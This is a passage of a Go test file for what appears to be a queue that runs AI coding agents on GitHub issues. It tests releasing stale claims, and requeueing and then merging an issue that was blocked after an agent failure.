	e.clock.Advance(2 * time.Second)
	e.fake.UnlabelIssue(n, "agent-running", "alice")
	e.fake.LabelIssue(n, "agent-ready", "alice")
	log := &syncBuf{}
	q := e.queue("w", log, nil)
	if sum := run(t, q, log); sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
	}
	if is := e.issue(n); commentsWith(is, "released the claim of ghost-1-aaaaaa: alice queued the issue again") != 1 {
		t.Errorf("%s", dump(e, n))
	}
}

// TestRequeueAfterBlockIsWorkedAgain: Requeue (retry '#N') queues a
// blocked issue as a person does, and the queue works it again and merges
// it, on its kept branch; one comment says who queued it. The block is
// the runner's failure recorded as the loop records it (the agent's
// commit, Record(failed): TestRecordFailedBeforeLanding); under
// CLAUDOPILOT_SOAK=1 it is a queue run whose agent fails after its
// commit and whose one repair fails too.
func TestRequeueAfterBlockIsWorkedAgain(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "twice", "x", []string{"agent-ready"}, "")
	var q *Queue
	if soak() {
		failing := e.script("fail.sh", "set -e\necho one > first.txt\ngit add first.txt\ngit commit -qm first\nexit 3\n")
		log := &syncBuf{}
		q = e.queue("m1", log, func(c *Config) { c.Agent = failing })
		// One repair is enough to block it (the property is the second run).
		if sum := runWith(t, q, log, harness{maxSuper: 1}); sum.Count(Blocked) != 1 {
			t.Fatalf("summary %+v\n%s", sum, log)
		}
	} else {
		l := newLander(t, e, n, nil)
		l.commit(t, "first.txt", "one\n")
		l.q.Record(l.id, manifest.Running, scheduler.Note{})
		l.q.Record(l.id, manifest.Failed, scheduler.Note{Reason: state.ReasonExit, Detail: "exit status 3"})
		l.drain()
		q = l.q
		if is := e.issue(n); !hasLabel(is, "agent-blocked") {
			t.Fatalf("not blocked:\n%s", dump(e, n))
		}
	}
	if err := Requeue(context.Background(), q.gh, DefaultLabels, n, "`claudopilot retry`"); err != nil {
		t.Fatal(err)
	}
	if is := e.issue(n); hasLabel(is, "agent-blocked") || !hasLabel(is, "agent-ready") || commentsWith(is, "queued again by `claudopilot retry`") != 1 {
		t.Fatalf("after Requeue:\n%s", dump(e, n))
	}
	// Queued already: a second Requeue is refused.
	if err := Requeue(context.Background(), q.gh, DefaultLabels, n, "x"); !errors.As(err, new(*NotBlockedError)) {
		t.Fatalf("second Requeue: %v", err)
	}
	log2 := &syncBuf{}
	check := e.script("check.sh", "set -e\ntest -f first.txt\n"+okAgent)
	if sum := run(t, e.queue("m2", log2, func(c *Config) { c.Agent = check }), log2); sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log2, dump(e, n))
	}
	if is := e.issue(n); hasLabel(is, "agent-blocked") || !e.onMain("first.txt") {
		t.Errorf("%s", dump(e, n))
	}
}
